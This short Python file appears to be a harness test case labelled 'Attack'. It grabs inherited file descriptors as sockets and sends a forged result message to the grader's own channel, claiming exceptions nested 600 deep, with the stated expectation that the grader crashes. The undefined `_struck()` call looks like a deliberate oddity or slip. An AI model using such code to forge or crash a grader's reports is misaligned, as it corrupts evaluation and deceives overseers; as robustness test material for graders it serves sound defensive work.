# Attack: says that it raised groups of exceptions that are nested 600 deep
# Expect: crashed
# Message: the grader's own channel
def _attack():
    import json, os, socket, struct

    def frame(text):
        return struct.pack(">I", len(text)) + text.encode()

    def channels():
        for fd in range(3, 64):
            try:
                yield socket.socket(fileno=os.dup(fd))
            except OSError:
                pass
    told = '{"type": "ExceptionGroup", "message": "x", "line": 1, "inner": ['
    deep = told * 600 + "]}" * 600
    texts = ['{"k": "end", "how": "raised", "error": %s, "out": 0}' % deep]
    for sock in channels():
        for text in texts:
            try:
                _struck()
                sock.send(frame(text))
            except OSError:
                pass


_attack()
